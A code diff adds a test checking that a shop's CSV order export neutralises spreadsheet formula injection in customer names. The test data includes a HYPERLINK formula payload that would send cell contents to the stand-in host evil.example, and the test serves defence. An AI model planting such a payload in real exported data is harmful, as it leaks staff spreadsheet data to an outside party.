@@ -294,3 +294,20 @@ def test_a_range_its_job_could_not_count_is_refused_not_accepted_to_die(api_clie
     assert list(response.json()["errors"]) == ["end"]
     assert not OrderExport.objects.exists()
     assert not Job.objects.exists()
+
+
+def test_a_customers_name_is_never_a_formula_in_the_staffs_spreadsheet(staff):
+    # Customers choose their names; staff open the CSV in a spreadsheet, which runs a cell
+    # that starts with = + - or @ as a formula (CSV injection).
+    many_orders(1)
+    from shop.models import Customer
+
+    Customer.objects.update(name='=HYPERLINK("http://evil.example/?"&A1,"open")')
+    today = timezone.now().date()
+    export = services.request_order_export(by=staff, start=today, end=today)
+
+    name = exports.write_export(export_id=export.pk, report=lambda *, done, total: True)
+
+    with exports.exports_storage().open(name) as written:
+        rows = list(csv.reader(io.StringIO(written.read().decode())))
+    assert rows[1][4] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
